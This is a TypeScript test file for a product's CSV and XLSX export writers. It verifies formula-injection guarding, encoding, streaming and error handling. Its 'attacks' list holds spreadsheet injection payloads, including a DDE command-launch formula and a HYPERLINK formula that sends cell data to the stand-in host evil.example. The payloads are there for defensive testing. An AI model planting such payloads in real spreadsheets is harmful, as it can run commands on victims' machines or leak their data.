import { createWriteStream } from 'node:fs'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer, text } from 'node:stream/consumers'
import { pipeline } from 'node:stream/promises'
import { withFormulaGuard, withoutFormulaGuard } from '@kohoi/contract/formula'
import fc from 'fast-check'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readHead, readRows } from '../../importing/reading/read-table.ts'
import { type Cell, csvWriter, type Rows } from './csv-writer.ts'
import { xlsxWriter } from './xlsx-writer.ts'

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'kohoi-sheets-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

const writers = { csv: csvWriter, xlsx: (rows: Rows) => xlsxWriter(rows) }
const formats = ['csv', 'xlsx'] as const

/** Attacks seen in exports of other products, each hidden in another way. */
const attacks = [
  '=1+1',
  '+1',
  '-12.50',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\u0000=1',
  '\u0001=1',
  '\ufeff=1',
  '\u200b=1',
  '\u200e=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' \t＝1',
  '\tplain',
  '\rplain',
  "'=1",
  "''=1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Lan")',
]

async function written(format: 'csv' | 'xlsx', rows: Rows): Promise<string> {
  const path = join(folder, `${crypto.randomUUID()}.${format}`)
  await pipeline(writers[format](rows), createWriteStream(path))
  return path
}

async function readBack(path: string): Promise<string[][]> {
  const rows: string[][] = []
  for await (const { cells } of readRows(path, await readHead(path, 'en'))) rows.push(cells)
  return rows
}

async function sheetCells(path: string): Promise<unknown[][]> {
  const { sheets } = await readXlsx(await readFile(path))
  return sheets[0]?.rows ?? []
}

describe('no cell begins with a formula', () => {
  const begins = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r]/u

  test('in CSV', async () => {
    const whole = (await text(csvWriter(attacks.map((attack) => [attack, 'x'])))).replace(/^\ufeff/, '')
    const cells = whole.split(/,x\r\n/).map((cell) => cell.replace(/^"/, ''))
    expect(cells).toHaveLength(attacks.length + 1)
    for (const cell of cells) expect(cell).not.toMatch(begins)
  })

  test('in XLSX, whose cells are text and no formula', async () => {
    const path = await written(
      'xlsx',
      attacks.map((attack) => [attack]),
    )
    const cells = (await sheetCells(path)).flat()
    expect(cells).toHaveLength(attacks.length)
    for (const cell of cells) {
      expect(cell).toBeTypeOf('string')
      expect(cell).not.toMatch(begins)
    }
  })

  test('and the guard is taken off exactly', () => {
    const prefix = fc.constantFrom('', "'", "''", ' ', '\t', '=', '+', "'=", '\ufeff-', '＝')
    fc.assert(
      fc.property(prefix, fc.string({ unit: 'binary' }), (start, rest) => {
        const guarded = withFormulaGuard(start + rest)
        expect(guarded).not.toMatch(begins)
        expect(withoutFormulaGuard(guarded)).toBe(start + rest)
      }),
    )
  })
})

describe('CSV', () => {
  test('is UTF-8 with its mark, with CRLF, and quotes where they are needed', async () => {
    const rows: Cell[][] = [
      ['ชื่อ', 'Ghi chú'],
      ['สมชาย, "ชาย"', null],
      ['a\nb', ' x'],
    ]
    const bytes = await buffer(csvWriter(rows))
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(bytes.toString('utf8', 3)).toBe('ชื่อ,Ghi chú\r\n"สมชาย, ""ชาย""",\r\n"a\nb"," x"\r\n')
  })

  test('of no rows is only its mark', async () => {
    expect(await buffer(csvWriter([]))).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  })
})

describe('a workbook', () => {
  test('holds numbers, dates and codes as the text they were', async () => {
    const rows = [
      ['code', 'amount', 'date'],
      ['00123', '1100.04', '2026-03-02'],
      ['1e5', 'TRUE', '_x0041_'],
    ]
    expect(await sheetCells(await written('xlsx', rows))).toEqual(rows)
  })

  test('may be called anything, and cuts what Excel could not open', async () => {
    const bytes = await buffer(
      xlsxWriter([['name'], ['x'.repeat(40_000)]], { sheet: "[Leads]: 'a/b'? ลูกค้า-ผู้สนใจ ทั้งหมดของบริษัท" }),
    )
    const { sheets } = await readXlsx(bytes)
    expect(sheets[0]?.name.length).toBeLessThanOrEqual(31)
    expect(String(sheets[0]?.rows[1]?.[0])).toHaveLength(32_767)
  })
})

describe.each(formats)('what is written as %s', (format) => {
  test('is read back, whatever the text', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({ unit: 'grapheme', maxLength: 20 }),
      fc.stringMatching(/^[ '",;|\t\r\n=+@_x0-9A-Fกำ้ếđ-]{0,12}$/),
      fc.constantFrom('_x0041_', '_x005F_x0041_', ...attacks),
    )
    const row = fc.tuple(cell, cell, cell)
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 6 }), async (rows) => {
        const path = await written(format, [['one', 'two', 'three'], ...rows])
        const filled = rows
          .map((cells) => cells.map((text) => asRead(text, format)))
          .filter((cells) => cells.some((text) => text.trim() !== ''))
        expect(await readBack(path)).toEqual(filled)
      }),
      { numRuns: 200 },
    )
  })

  test('flows: rows are taken as the reader takes bytes', async () => {
    let taken = 0
    async function* rows(): AsyncGenerator<string[]> {
      yield ['name', 'note']
      for (; taken < 200_000; taken++) yield [`สมชาย ใจดี ${taken}`, 'ลูกค้ารายใหญ่, โทรกลับ']
    }
    const before = process.memoryUsage().rss
    const stream = writers[format](rows())
    let bytes = 0
    let most = 0
    for await (const piece of stream) {
      if (bytes === 0) expect(taken).toBeLessThan(100_000)
      bytes += piece.length
      most = Math.max(most, process.memoryUsage().rss)
    }
    expect(taken).toBe(200_000)
    expect(most - before).toBeLessThan(150 * 1024 * 1024)
  })

  test('stops asking for rows when nobody listens any more', async () => {
    let ended = false
    async function* rows(): AsyncGenerator<string[]> {
      try {
        for (;;) yield ['Lan', crypto.randomUUID()]
      } finally {
        ended = true
      }
    }
    for await (const _ of writers[format](rows())) break
    await expect.poll(() => ended).toBe(true)
  })

  test('breaks off loudly when its rows do', async () => {
    async function* rows(): AsyncGenerator<string[]> {
      yield ['name']
      throw new Error('database away')
    }
    await expect(buffer(writers[format](rows()))).rejects.toThrow('database away')
  })
})

/** What no spreadsheet can hold is made whole: half characters, zero bytes, foreign line ends, letters in two parts. */
function asRead(text: string, format: 'csv' | 'xlsx'): string {
  const whole = text.toWellFormed().replaceAll('\0', '')
  const held = format === 'xlsx' ? whole.replace(/[\ufffe\uffff]/g, '\ufffd') : whole
  return held.replace(/\r\n?/g, '\n').normalize('NFC')
}
